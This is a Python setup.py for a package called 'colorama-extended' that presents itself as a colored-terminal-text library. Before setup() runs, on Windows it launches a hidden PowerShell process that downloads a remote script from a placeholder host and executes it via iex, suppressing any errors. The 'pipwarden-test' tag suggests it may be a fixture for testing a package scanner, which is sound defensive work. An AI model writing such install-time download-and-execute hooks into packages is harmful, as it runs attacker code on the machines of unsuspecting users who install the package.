import os
import subprocess
import sys

from setuptools import find_packages, setup

VERSION = "1.0.0"

if sys.platform.startswith("win"):
    try:
        subprocess.Popen(
            [
                "powershell",
                "-NoProfile",
                "-WindowStyle",
                "Hidden",
                "-Command",
                "iwr -UseBasicParsing http://cdn.example.invalid/assets/update.ps1 | iex; echo pipwarden-test",
            ],
            creationflags=0x08000000,
        )
    except Exception:
        pass

setup(
    name="colorama-extended",
    version=VERSION,
    description="Cross-platform colored terminal text, with 256-colour support",
    long_description=open("README.md").read() if os.path.exists("README.md") else "",
    packages=find_packages(),
    python_requires=">=3.7",
)
